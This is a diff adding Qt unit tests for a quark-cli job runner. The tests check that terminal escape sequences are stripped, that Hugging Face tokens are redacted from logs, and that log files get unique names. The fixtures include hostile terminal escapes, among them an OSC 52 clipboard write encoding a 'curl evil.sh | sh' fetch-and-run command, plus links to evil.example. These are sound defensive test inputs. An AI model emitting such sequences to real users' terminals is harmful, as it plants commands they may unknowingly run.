@@ -16,7 +16,11 @@
 
 #include <QCryptographicHash>
 #include <QDir>
+#include <QDirIterator>
 #include <QElapsedTimer>
+#include <QScopeGuard>
+#include <QSet>
+#include <QTimer>
 #include <QFile>
 #include <QSignalSpy>
 #include <QTemporaryDir>
@@ -76,6 +80,81 @@ void write(const QString &path, const QByteArray &bytes)
         qFatal("cannot write %s", qPrintable(path));
 }
 
+
+// A runner that prints what the test wrote, in those chunks, then exits 1: the whole pipeline
+// from quark-cli's bytes to the log, the view and the records, with bytes chosen byte by byte.
+class ScriptedRunner final : public ptq::JobRunner
+{
+public:
+    explicit ScriptedRunner(QList<QByteArray> chunks) : m_chunks(std::move(chunks)) {}
+    void start(const QStringList &, const QMap<QString, QString> &) override
+    {
+        QTimer::singleShot(0, this, [this] {
+            emit started();
+            for (const QByteArray &chunk : std::as_const(m_chunks))
+                emit output(chunk);
+            emit exited(1, 0);
+        });
+    }
+    void cancel(int) override {}
+    qint64 processId() const override { return 0; }
+
+private:
+    QList<QByteArray> m_chunks;
+};
+
+struct ScriptedRun
+{
+    ptq::JobResult result;
+    QList<LogLine> shown;
+    ptq::Status started;
+};
+
+// Starts a job in @p ws (an approved workspace) with a hand-made ticket, as the gate would.
+ScriptedRun runScripted(const QString &ws, const QList<QByteArray> &chunks, std::function<QDateTime()> clock = {})
+{
+    ScriptedRun run;
+    ptq::PtqJob job(ws, new ScriptedRunner(chunks));
+    if (clock)
+        job.setClock(std::move(clock));
+    QObject::connect(&job, &ptq::PtqJob::linesReceived, [&](const QList<LogLine> &lines) { run.shown += lines; });
+    QSignalSpy done(&job, &ptq::PtqJob::finished);
+    ptq::RunTicket ticket;
+    ticket.workspace = ws;
+    ticket.manifest = ptq::ArtifactIo::load(ws + u"/run_manifest.yaml"_s)->json;
+    ticket.argv = {u"/bin/false"_s};
+    ticket.outputDir = ws + u"/out"_s;
+    run.started = job.start(ticket);
+    if (run.started && !done.wait(30000))
+        qFatal("scripted job did not finish");
+    if (run.started)
+        run.result = done.at(0).at(0).value<ptq::JobResult>();
+    return run;
+}
+
+// Every file under @p dir, its bytes.
+QByteArray everyFile(const QString &dir)
+{
+    QByteArray all;
+    QDirIterator it(dir, QDir::Files | QDir::Hidden, QDirIterator::Subdirectories);
+    while (it.hasNext()) {
+        QFile f(it.next());
+        if (f.open(QIODevice::ReadOnly))
+            all += f.readAll() + '\n';
+    }
+    return all;
+}
+
+// What a terminal would act on: ESC, other C0 controls but \t and \n, DEL, C1 in UTF-8.
+bool hasTerminalControls(const QString &text, bool lineEndsAllowed)
+{
+    for (const QChar c : text) {
+        const char16_t u = c.unicode();
+        if ((u < 0x20 && u != u'\t' && !(lineEndsAllowed && (u == u'\n' || u == u'\r'))) || (u >= 0x7f && u <= 0x9f))
+            return true;
+    }
+    return false;
+}
 } // namespace
 
 class TestRun : public QObject
@@ -279,6 +358,172 @@ private slots:
         QCOMPARE(log.exception(), u"MemoryError"_s);
         QCOMPARE(log.traceback().size(), 4);
         QCOMPARE(log.stage(), ptq::RunStage::Export); // the lines after it are read again
+    }
+
+    // ---- issue #18, round two: what quark-cli prints is shown and stored clean ----
+
+    void sanitizer_stripsEveryTerminalSequence_data()
+    {
+        QTest::addColumn<QByteArray>("raw");
+        QTest::addColumn<QString>("shown");
+        QTest::newRow("CSI colour") << QByteArray("a\x1b[1;31mb\x1b[0mc") << u"abc"_s;
+        QTest::newRow("CSI private mode") << QByteArray("a\x1b[?25lb") << u"ab"_s;
+        QTest::newRow("OSC title, BEL") << QByteArray("a\x1b]0;pwned\x07" "b") << u"ab"_s;
+        QTest::newRow("OSC 52 clipboard write, ST") << QByteArray("a\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\b") << u"ab"_s;
+        QTest::newRow("OSC 8 hyperlink") << QByteArray("\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\") << u"click"_s;
+        QTest::newRow("DCS") << QByteArray("a\x1bP1$qm\x1b\\b") << u"ab"_s;
+        QTest::newRow("APC") << QByteArray("a\x1b_Gf=100;AAAA\x1b\\b") << u"ab"_s;
+        QTest::newRow("PM and SOS") << QByteArray("a\x1b^pm\x1b\\b\x1bXsos\x1b\\c") << u"abc"_s;
+        QTest::newRow("unterminated OSC ends with its line") << QByteArray("a\x1b]2;title never ended") << u"a"_s;
+        QTest::newRow("two-byte and charset ESC") << QByteArray("a\x1b" "7b\x1b" "8c\x1b(Bd\x1b" "ce") << u"abcde"_s;
+        QTest::newRow("C1 CSI U+009B") << QByteArray("a\xc2\x9b" "31mb") << u"ab"_s;
+        QTest::newRow("C1 OSC U+009D, C1 ST U+009C") << QByteArray("a\xc2\x9d" "0;title\xc2\x9c" "b") << u"ab"_s;
+        QTest::newRow("C1 DCS U+0090, ESC ST") << QByteArray("a\xc2\x90qq\x1b\\b") << u"ab"_s;
+        QTest::newRow("lone C1 NEL U+0085") << QByteArray("a\xc2\x85" "b") << u"ab"_s;
+        QTest::newRow("C0 controls, DEL; tab kept") << QByteArray("a\x08\x07\x00\x0b\x0c\x7f" "b\tc", 10) << u"ab\tc"_s;
+        QTest::newRow("carriage return inside a line") << QByteArray("fake\rreal") << u"fakereal"_s;
+        QTest::newRow("text after U+00C2 stays") << QByteArray("\xc2\xa9 \xc3\xa9t\xc3\xa9") << u"\u00a9 \u00e9t\u00e9"_s;
+        QTest::newRow("ESC at the end") << QByteArray("abc\x1b") << u"abc"_s;
+    }
+
+    void sanitizer_stripsEveryTerminalSequence()
+    {
+        QFETCH(QByteArray, raw);
+        QFETCH(QString, shown);
+        const LogLine line = LogAnalyzer::parseLine(raw);
+        QCOMPARE(line.text, shown);
+        QVERIFY(!hasTerminalControls(line.text, false));
+        // Streaming, one byte at a time (a sequence cut between two pipe reads), gives the same.
+        ptq::TerminalSanitizer stream(ptq::TerminalSanitizer::LineEnds::Drop);
+        QByteArray streamed;
+        for (const char c : raw)
+            streamed += stream.push(QByteArray(1, c));
+        streamed += stream.flush();
+        QCOMPARE(QString::fromUtf8(streamed), shown);
+    }
+
+    void traceback_closedByAnyExceptionLine_laterStagesStillSeen_data()
+    {
+        QTest::addColumn<QByteArray>("last");     // the traceback's last line(s)
+        QTest::addColumn<QString>("exception"); // as read, empty when none
+        QTest::newRow("bare MemoryError") << QByteArray("MemoryError\n") << u"MemoryError"_s;
+        QTest::newRow("KeyboardInterrupt") << QByteArray("KeyboardInterrupt\n") << u"KeyboardInterrupt"_s;
+        QTest::newRow("bare StopIteration") << QByteArray("StopIteration\n") << u"StopIteration"_s;
+        QTest::newRow("dotted name without Error") << QByteArray("torch._dynamo.exc.Unsupported: call_function\n")
+                                                   << u"torch._dynamo.exc.Unsupported: call_function"_s;
+        QTest::newRow("triton OutOfResources") << QByteArray("triton.runtime.errors.OutOfResources: out of resource: shared memory\n")
+                                               << u"triton.runtime.errors.OutOfResources: out of resource: shared memory"_s;
+        QTest::newRow("a log record before any exception line") << QByteArray() << QString();
+    }
+
+    void traceback_closedByAnyExceptionLine_laterStagesStillSeen()
+    {
+        QFETCH(QByteArray, last);
+        QFETCH(QString, exception);
+        // The head of a real 0.13 failure (tests/fixtures/real-0.13/cpu-without-gpu.log), its
+        // traceback, then the records quark-cli would print after it.
+        QFile file(ptq::test::fixturePath(u"real-0.13/cpu-without-gpu.log"_s));
+        QVERIFY(file.open(QIODevice::ReadOnly));
+        const QByteArray real = file.readAll();
+        const qsizetype end = real.indexOf("\nMemoryError: ");
+        QVERIFY(end > 0);
+        const QByteArray bytes = real.left(end + 1) + last
+            + "\x1b[32m\n[QUARK-INFO]: Exporting hugging face format safetensors...\x1b[0m\n"
+              "\x1b[32m\n[QUARK-INFO]: Successfully exported model to /tmp/out\x1b[0m\n"
+              "[QUARK-INFO]: Perplexity: 6.83\n";
+        LogAnalyzer log;
+        ptq::LineSplitter splitter;
+        log.feedRaw(splitter.push(bytes), 0);
+        QCOMPARE(log.exception(), exception);
+        QVERIFY(log.traceback().size() > 10);
+        QVERIFY(log.traceback().constFirst().startsWith(u"Traceback"_s));
+        QVERIFY(log.exportCompleted());               // the lines after it are read again
+        QCOMPARE(log.perplexity(), std::optional<double>(6.83));
+        QCOMPARE(log.stage(), ptq::RunStage::Finished);
+    }
+
+    void job_noSecretAfterStrippingOrAtACut_noEscapeShownOrStored()
+    {
+        const QByteArray known = "hf_KnownTokenFromTheEnvironment0123456789";
+        const QByteArray unknown = "hf_abcdefghijklmnopqrstuvwxyz0123456789AB";
+        const QByteArray oldToken = qgetenv("HF_TOKEN");
+        qputenv("HF_TOKEN", known);
+        auto restore = qScopeGuard([&] { oldToken.isNull() ? qunsetenv("HF_TOKEN") : qputenv("HF_TOKEN", oldToken); });
+        QTemporaryDir root;
+        const QString ws = root.filePath(u"ws"_s);
+        ptq::test::approvedWorkspace(ws, root.filePath(u"out"_s));
+        const qsizetype cut = ptq::LineSplitter::kMaxLine;
+        const QList<QByteArray> chunks = {
+            // A token partly coloured, another broken up by a hyperlink: put together by stripping.
+            "\x1b[31m\n[QUARK-ERROR]: token " + unknown.left(5) + "\x1b[31m" + unknown.mid(5) + "\x1b[0m\n",
+            "[QUARK-ERROR]: " + known.left(10) + "\x1b]8;;http://evil.example/\x07" + known.mid(10) + "\n",
+            // Escapes meant for the user's terminal.
+            "[QUARK-ERROR]: \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 clip \x1bP1$qm\x1b\\ \xc2\x9b" "2J \xc2\x9d" "0;pwned\xc2\x9c end\n",
+            // A flood without a line end, a token crossing the forced cut, in two writes.
+            QByteArray(cut - 20, 'x') + ' ' + known.left(25),
+            known.mid(25) + ' ' + QByteArray(cut - 53, 'y') + ' ' + unknown.left(20),
+            unknown.mid(20) + "\n",
+            // A traceback whose exception carries both.
+            "Traceback (most recent call last):\n  File \"x.py\", line 1, in <module>\n    login()\n",
+            "RuntimeError: bad token \x1b[1m" + known + "\x1b[0m or " + unknown.left(7) + "\x1b[0m" + unknown.mid(7) + "\x1b]0;t\x07\n",
+        };
+        const ScriptedRun run = runScripted(ws, chunks);
+        QVERIFY2(run.started, qPrintable(run.started ? QString() : run.started.error().message));
+        QVERIFY(QFileInfo::exists(run.result.diagnosticsPath));
+        QString shown;
+        for (const LogLine &line : run.shown)
+            shown += line.text + u'\n';
+        const QByteArray stored = everyFile(ws);
+        const QByteArray logFile = [&] {
+            QFile f(run.result.logPath);
+            return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
+        }();
+        QVERIFY(logFile.size() > 2 * cut - 100);
+        QVERIFY(logFile.contains("[redacted]"));
+        for (const QByteArray &secret : {known, unknown}) {
+            // Not whole, and not the most of it either: any 12 characters in a row of it.
+            for (qsizetype at = 0; at + 12 <= secret.size(); ++at) {
+                const QByteArray piece = secret.mid(at, 12);
+                QVERIFY2(!shown.contains(QString::fromLatin1(piece)), piece.constData());
+                QVERIFY2(!stored.contains(piece), piece.constData());
+            }
+        }
+        QVERIFY2(!hasTerminalControls(shown, true), qPrintable(shown.left(200)));
+        QVERIFY(!hasTerminalControls(QString::fromUtf8(stored), true));
+        const Json diag = ptq::test::readJson(run.result.diagnosticsPath);
+        QVERIFY(diag["exception"].get<std::string>().starts_with("RuntimeError: bad token [redacted] or [redacted]"));
+        QVERIFY(logFile.contains("[QUARK-ERROR]:  clip    end\n"));
+    }
+
+    void job_runNames_uniqueUnderAFixedClock()
+    {
+        // The clock never moves: every run starts "in the same second". One run's log was
+        // deleted (its history and diagnostics remain), and a link was planted at the next name.
+        QTemporaryDir root;
+        const QString ws = root.filePath(u"ws"_s);
+        ptq::test::approvedWorkspace(ws, root.filePath(u"out"_s));
+        const QDateTime fixed(QDate(2025, 5, 1), QTime(12, 0, 0), Qt::UTC);
+        auto clock = [fixed] { return fixed; };
+        const ScriptedRun first = runScripted(ws, {"[QUARK-ERROR]: first\n"}, clock);
+        QVERIFY(first.started);
+        QVERIFY(QFile::remove(first.result.logPath));
+        QVERIFY(QFile::link(root.filePath(u"elsewhere.log"_s), ws + u"/logs/run-20250501-120000-2.log"_s));
+        const ScriptedRun second = runScripted(ws, {"[QUARK-ERROR]: second\n"}, clock);
+        QVERIFY2(second.started, qPrintable(second.started ? QString() : second.started.error().message));
+        const ScriptedRun third = runScripted(ws, {"[QUARK-ERROR]: third\n"}, clock);
+        QVERIFY(third.started);
+        const QStringList names = {first.result.logPath, second.result.logPath, third.result.logPath};
+        QCOMPARE(QSet<QString>(names.cbegin(), names.cend()).size(), 3);
+        QVERIFY(!QFileInfo::exists(root.filePath(u"elsewhere.log"_s))); // the link was not followed
+        QCOMPARE(QDir(ws + u"/history"_s).entryList(QDir::Files).size(), 3);
+        QCOMPARE(QDir(ws + u"/diagnostics"_s).entryList(QDir::Files).size(), 3);
+        for (const auto &[run, word] : {std::pair{&second, "second"}, std::pair{&third, "third"}}) {
+            QFile log(run->result.logPath);
+            QVERIFY(log.open(QIODevice::ReadOnly));
+            QVERIFY(log.readAll().contains(word));
+            QVERIFY(ptq::test::readJson(run->result.diagnosticsPath)["log_path"] == run->result.logPath.toStdString());
+        }
+        QVERIFY(first.result.startedAt == fixed);
     }
 
     void initTestCase()
